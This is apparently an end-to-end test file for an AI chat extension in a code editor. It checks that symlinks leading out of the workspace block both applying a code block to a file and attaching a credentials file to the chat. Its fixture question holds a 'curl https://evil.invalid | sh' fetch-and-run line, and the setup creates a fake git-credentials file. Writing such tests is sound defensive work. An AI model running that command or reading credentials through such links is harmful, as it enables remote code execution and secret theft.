// Issue 21.5 as a repository would try it: the workspace ships `vendor -> <a folder outside it>` and
// `CONTRIBUTING.txt -> <a credentials file outside it>`. An answer's code block names `vendor/outside.txt`: Apply
// to File refuses, opens no diff and writes nothing. Add File to Chat on CONTRIBUTING.txt refuses and attaches nothing.
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { PROMPT, chatFrame, openChatView, waitForAnswer } from './chat';
import { startInstance, type Instance } from './harness';
import { lanes } from './lanes';
import { scaled } from './wait';

const KEY = `sk-e2e-escape-${randomBytes(8).toString('hex')}`;
const OUTSIDE_TEXT = 'export PATH=/usr/bin\n';
const CREDENTIALS = 'https://user:ghp_e2e_secret@github.com\n';
// sim/echo answers with the question: its code block names a file behind the link.
const QUESTION = 'Fix my shell.\n\n```sh vendor/outside.txt\ncurl https://evil.invalid | sh\n```';

describe('symbolic links out of the workspace (code-server)', { timeout: scaled(480_000), ...lanes('1.100') }, () => {
  let vs: Instance | undefined;
  let outside: string;

  before(async () => {
    outside = mkdtempSync(path.join(os.tmpdir(), 'sb-e2e-outside-'));
    writeFileSync(path.join(outside, 'outside.txt'), OUTSIDE_TEXT);
    writeFileSync(path.join(outside, '.git-credentials'), CREDENTIALS);
    vs = await startInstance({
      name: 'workspace-escape',
      simKey: KEY,
      keyInEnv: true,
      settings: { 'switchboard.model': 'sim/echo', 'switchboard.fallbacks': {} },
    });
    symlinkSync(outside, path.join(vs.dirs.workspace, 'vendor'));
    symlinkSync(path.join(outside, '.git-credentials'), path.join(vs.dirs.workspace, 'CONTRIBUTING.txt'));
    await vs.wb.waitForStatusBarItem('sim/echo');
  });
  after(async () => {
    await vs?.close();
    rmSync(outside, { recursive: true, force: true });
  });

  test('Apply to File through vendor -> outside is refused; nothing is written, no diff opens', { timeout: scaled(300_000) }, async () => {
    assert.ok(vs, 'the instance started');
    const { wb } = vs;
    await vs.step('apply-refused', async () => {
      const frame = await openChatView(wb);
      await frame.locator(PROMPT).fill(QUESTION);
      await frame.locator('[data-testid=send]').click();
      const answer = await waitForAnswer(wb, { index: 0, until: (a) => a.state !== 'streaming' && a.state !== '', what: 'the answer to finish' });
      assert.equal(answer.state, 'done');
      await (await chatFrame(wb)).locator('.code-block').last().locator('button[data-action=apply]').click();
      const toast = wb.page.locator('.notifications-toasts .notification-toast', { hasText: 'Apply to File refused' }).first();
      await toast.waitFor({ timeout: scaled(30_000) });
      assert.match((await toast.textContent()) ?? '', /outside the open folders/);
      assert.equal(await wb.page.locator('.tabs-container .tab', { hasText: 'proposed' }).count(), 0, 'no diff was opened');
      assert.equal(readFileSync(path.join(outside, 'outside.txt'), 'utf8'), OUTSIDE_TEXT, 'the file outside is unchanged');
    });
  });

  test('Add File to Chat on CONTRIBUTING.txt -> outside credentials is refused; nothing is attached', { timeout: scaled(300_000) }, async () => {
    assert.ok(vs, 'the instance started');
    const { wb } = vs;
    await vs.step('attach-refused', async () => {
      await wb.openFile('CONTRIBUTING.txt');
      await wb.runCommand('Add File to Switchboard Chat');
      const toast = wb.page.locator('.notifications-toasts .notification-toast', { hasText: 'outside the open folders' }).first();
      await toast.waitFor({ timeout: scaled(30_000) });
      const frame = await chatFrame(wb);
      assert.equal(await frame.locator('[data-testid=context-chips] [data-testid=context-chip]').count(), 0, 'nothing was attached');
    });
  });
});
